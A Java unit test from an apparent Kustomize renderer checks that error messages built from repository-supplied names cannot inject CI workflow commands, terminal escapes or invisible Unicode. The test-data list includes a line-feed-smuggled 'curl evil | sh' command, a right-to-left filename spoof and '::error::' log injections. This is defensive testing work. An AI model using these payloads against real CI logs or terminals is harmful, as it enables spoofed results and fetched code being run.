package dev.kasane.kustomize.safety;

import static org.assertj.core.api.Assertions.assertThat;

import dev.kasane.files.MemoryTree;
import dev.kasane.kustomize.RenderOptions;
import dev.kasane.kustomize.Renderer;
import dev.kasane.problem.KasaneException;
import dev.kasane.problem.Problem;
import dev.kasane.problem.ProblemText;
import java.util.List;
import org.junit.jupiter.api.Test;

/** What a repository says never begins a line of a message, and no character of it acts on who reads it. */
class MessageAttackTest {

    private static final List<String> HOSTILE = List.of(
            "a\n::error::stop",
            "a\r\n##vso[task.complete]",
            "a\n  hint: curl evil | sh",
            "a\u001b[2J\u001b]0;x\u0007",
            "a\u202Egnp.exe",
            "a\u200Bb\u2060c\uFEFFd",
            "a\u0085b\u2028c\u2029d",
            "a\udb40\udc41b\u00ADc\u007Fd");

    @Test
    void aMessageShowsLineFeedsEscapesAndInvisibleCharactersWrittenOut() {
        for (String hostile : HOSTILE) {
            isHarmless(
                    ProblemText.of(Problem.error("the name " + hostile + " is wrong", null, "rename " + hostile)), 2);
        }
    }

    @Test
    void namesOfFilesFieldsAndObjectsInTheRenderersErrorsAreWrittenOut() {
        for (String hostile : HOSTILE) {
            String quoted = "\"" + escaped(hostile) + "\"";
            for (String kustomization : List.of(
                    "resources: [" + quoted + "]",
                    "? " + quoted + "\n: []",
                    "resources: [r.yaml]\nreplicas: [{name: " + quoted + ", count: 1}]",
                    "configMapGenerator: [{name: a, literals: [" + quoted + "]}]")) {
                String text = problems(MemoryTree.of(
                        "top/kustomization.yaml",
                        kustomization + "\n",
                        "top/r.yaml",
                        "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\n"));
                isHarmless(text, 8);
            }
        }
    }

    private static String escaped(String text) {
        StringBuilder yaml = new StringBuilder();
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            yaml.append(c < 0x7F && c >= ' ' ? Character.toString(c) : "\\u%04x".formatted((int) c));
        }
        return yaml.toString().replace("\\udb40\\udc41", "\\U000E0041");
    }

    private static String problems(MemoryTree tree) {
        try {
            new Renderer(tree, RenderOptions.DEFAULT).render("top");
        } catch (KasaneException e) {
            return String.join("", e.problems().stream().map(ProblemText::of).toList());
        }
        throw new AssertionError("this should have been refused");
    }

    private static void isHarmless(String text, int mostLines) {
        assertThat(text.chars().filter(c -> c == '\n').count()).as(text).isLessThanOrEqualTo(mostLines);
        for (String line : text.split("\n", -1)) {
            assertThat(line).doesNotStartWith("::").doesNotStartWith("##").doesNotContainPattern("^  hint: curl");
        }
        assertThat(text).doesNotContainPattern("[\\p{Cc}\\p{Cf}\\u2028\\u2029&&[^\\n]]");
    }
}
